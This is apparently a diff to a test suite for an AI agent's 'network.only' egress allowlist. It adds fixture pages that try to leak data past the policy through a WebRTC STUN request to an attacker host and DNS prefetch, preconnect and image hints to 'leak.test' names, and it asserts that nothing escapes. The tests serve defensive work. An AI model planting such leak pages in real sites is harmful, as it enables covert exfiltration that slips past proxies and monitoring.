@@ -7,6 +7,7 @@
  * subresources, and the user's own MCP servers. MANUS_TEST_PUBLIC_ADDRESSES lets 127.0.0.2 stand
  * for a public address, MANUS_TEST_HOSTS points names at it.
  */
+import { createSocket } from 'node:dgram';
 import { mkdirSync, mkdtempSync, realpathSync, writeFileSync } from 'node:fs';
 import { createServer, request, type IncomingMessage, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
@@ -21,6 +22,7 @@ import { EgressPolicy } from '../runtime/services/network/egress-policy.js';
 import { createToolNetwork } from '../runtime/services/network/tool-network.js';
 import { RunResourceRegistry } from '../runtime/services/run-resources.js';
 import { probeBwrap } from '../runtime/services/sandbox/create-sandbox.js';
+import { dnsCatcherMissing, startDnsCatcher, type DnsCatcher } from './attacks/dns-catcher.js';
 import { chromiumMissing as isChromiumMissing } from './support/fixture-site.js';
 import { cliEntry, makeFixture, readEvents, runCli, type CliResult } from './support/run-cli.js';
 import { startScriptedModelServer, type RecordedChatRequest, type ScriptedTurn } from './support/scripted-model-server.js';
@@ -66,6 +68,23 @@ async function startSite(address: string, page: (port: number) => string): Promi
     requests.push({ host: incoming.headers.host ?? '', url: incoming.url ?? '' });
     if (url.pathname === '/redirect') {
       response.writeHead(302, { location: url.searchParams.get('to') ?? '/' }).end();
+    } else if (url.pathname === '/webrtc') {
+      // ICE candidates gathered against a STUN server of the attacker's: UDP, which no HTTP proxy sees.
+      const stun = url.searchParams.get('stun');
+      response.writeHead(200, { 'content-type': 'text/html' }).end([
+        '<html><head><title>Call page</title></head><body><script>',
+        `const connection = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${stun}' }] });`,
+        "connection.createDataChannel('x');",
+        'connection.createOffer().then((offer) => connection.setLocalDescription(offer));',
+        '</script></body></html>',
+      ].join(''));
+    } else if (url.pathname === '/hints') {
+      // Names a page asks the browser to look up early: DNS carries data without any connection.
+      response.writeHead(200, { 'content-type': 'text/html' }).end([
+        '<html><head><title>Hints page</title>',
+        '<link rel="dns-prefetch" href="//prefetch-secret.leak.test"><link rel="preconnect" href="http://preconnect-secret.leak.test">',
+        '</head><body><img src="http://image-secret.leak.test/pixel.png"><a href="http://anchor-secret.leak.test/">more</a></body></html>',
+      ].join(''));
     } else if (url.pathname === '/browser') {
       response.writeHead(200, { 'content-type': 'text/html' }).end(page((server.address() as AddressInfo).port));
     } else {
@@ -97,6 +116,7 @@ beforeAll(async () => {
 });
 
 afterAll(async () => {
+  await catcher?.close();
   for (const key of ['MANUS_TEST_PUBLIC_ADDRESSES', 'MANUS_TEST_HOSTS', 'HTTP_PROXY', 'http_proxy', 'HTTPS_PROXY', 'ALL_PROXY']) {
     if (savedEnvironment[key] === undefined) delete process.env[key];
     else process.env[key] = savedEnvironment[key];
@@ -260,15 +280,26 @@ interface HeldRun extends CliResult {
 }
 
 /** Runs the built command with a user config whose `network.only` is `only`. */
-async function runHeld(files: Record<string, string>, only: string[], args: string[], turns: ScriptedTurn[], extraConfig = ''): Promise<HeldRun> {
+/**
+ * The attack suite's resolver, when this machine can give a run a network namespace of its own
+ * (root, unshare, socat): names a run looks up are seen there, and nothing reaches a real resolver.
+ */
+let catcher: DnsCatcher | undefined;
+const catcherMissing = dnsCatcherMissing();
+if (catcherMissing) console.warn(`network.only's DNS checks are skipped: ${catcherMissing}`);
+
+async function runHeld(files: Record<string, string>, only: string[] | undefined, args: string[], turns: ScriptedTurn[], extraConfig = '', { catchDns = false } = {}): Promise<HeldRun> {
   const fixture = makeFixture(files);
   const configHome = realpathSync(mkdtempSync(join(tmpdir(), 'manus-network-only-')));
   mkdirSync(join(configHome, 'manus'));
-  writeFileSync(join(configHome, 'manus', 'config.yaml'), `version: 1\nnetwork:\n  only: ${JSON.stringify(only)}\n${extraConfig}`);
+  writeFileSync(join(configHome, 'manus', 'config.yaml'), `version: 1\n${only ? `network:\n  only: ${JSON.stringify(only)}\n` : ''}${extraConfig}`);
   const server = await startScriptedModelServer({ turns });
+  if (catchDns && !catcherMissing) catcher ??= await startDnsCatcher('127.0.0.58');
+  const namespace = catchDns ? await catcher?.enter([process.execPath, cliEntry]) : undefined;
   try {
     const result = await runCli(['run', 'recipe.yaml', '--ci', '--json', ...args], {
       cwd: fixture,
+      ...(namespace ? { command: namespace.command } : {}),
       timeoutMs: 120_000,
       env: { OPENAI_BASE_URL: server.baseUrl, OPENAI_API_KEY: 'test-key', MANUS_MODEL: 'scripted-model', MANUS_PYTHON: '/usr/bin/python3', XDG_CONFIG_HOME: configHome, ...testNetwork },
     });
@@ -278,6 +309,7 @@ async function runHeld(files: Record<string, string>, only: string[], args: stri
     const events = result.json?.runDirectory ? readEvents(result.json.runDirectory) : [];
     return { ...result, fixture, configHome, toolResults, events };
   } finally {
+    await namespace?.close();
     await server.close();
   }
 }
@@ -359,6 +391,41 @@ describe('network.only in a run of the built command', () => {
     const offline = await runHeld({ 'recipe.yaml': recipe(['bash', 'terminate'], '{ kind: bwrap }') }, ['allowed.test'], [], [call('bash', { command: probe }), terminate]);
     expect(offline.exitCode, offline.stderr).toBe(0);
     expect(offline.toolResults[0]).toMatch(/^allowed: curl: \(\d+\)/m);
+  }, 120_000);
+
+  it.skipIf(chromiumMissing || catcherMissing !== undefined)('the browser: a listed page\'s image and DNS hints look nothing up, though they do without the list', async () => {
+    const turns = (page: string) => [call('browser_use', { action: 'go_to_url', url: page }), call('browser_use', { action: 'wait', seconds: 2 }), terminate];
+    const files = { 'recipe.yaml': recipe(['browser_use', 'terminate']) };
+    const leaked = () => (catcher?.names ?? []).filter((name) => name.endsWith('leak.test'));
+    // Without network.only the browser resolves names itself (so the page is opened by its address,
+    // which the test-only setting counts as public), and the catcher sees the page's hints.
+    const open = await runHeld(files, undefined, [], turns(`http://${publicAddress}:${site.port}/hints`), '', { catchDns: true });
+    expect(open.exitCode, open.stderr).toBe(0);
+    const seenOpen = leaked().length;
+    expect(seenOpen).toBeGreaterThan(0);
+    const held = await runHeld(files, ['allowed.test'], [], turns(`http://allowed.test:${site.port}/hints`), '', { catchDns: true });
+    expect(site.seenBy('allowed.test').some((each) => each.url === '/hints')).toBe(true);
+    expect(held.exitCode, held.stderr).toBe(0);
+    expect(leaked().slice(seenOpen)).toEqual([]);
+  }, 120_000);
+
+  it.skipIf(chromiumMissing)('the browser: a listed page\'s WebRTC sends no UDP to a host off the list', async () => {
+    const stun = createSocket('udp4');
+    const datagrams: string[] = [];
+    stun.on('message', (_message, sender) => datagrams.push(`${sender.address}:${sender.port}`));
+    await new Promise<void>((resolve) => stun.bind(0, publicAddress, resolve));
+    try {
+      const run = await runHeld({ 'recipe.yaml': recipe(['browser_use', 'terminate']) }, ['allowed.test'], [], [
+        call('browser_use', { action: 'go_to_url', url: `http://allowed.test:${site.port}/webrtc?stun=${publicAddress}:${stun.address().port}` }),
+        call('browser_use', { action: 'wait', seconds: 2 }),
+        terminate,
+      ]);
+      expect(run.exitCode, run.stderr).toBe(0);
+      expect(site.seenBy('allowed.test').some((each) => each.url.startsWith('/webrtc'))).toBe(true);
+      expect(datagrams).toEqual([]);
+    } finally {
+      stun.close();
+    }
   }, 120_000);
 
   it.skipIf(chromiumMissing)('the browser: a listed page opens, its image and its script\'s navigation to another host never leave', async () => {
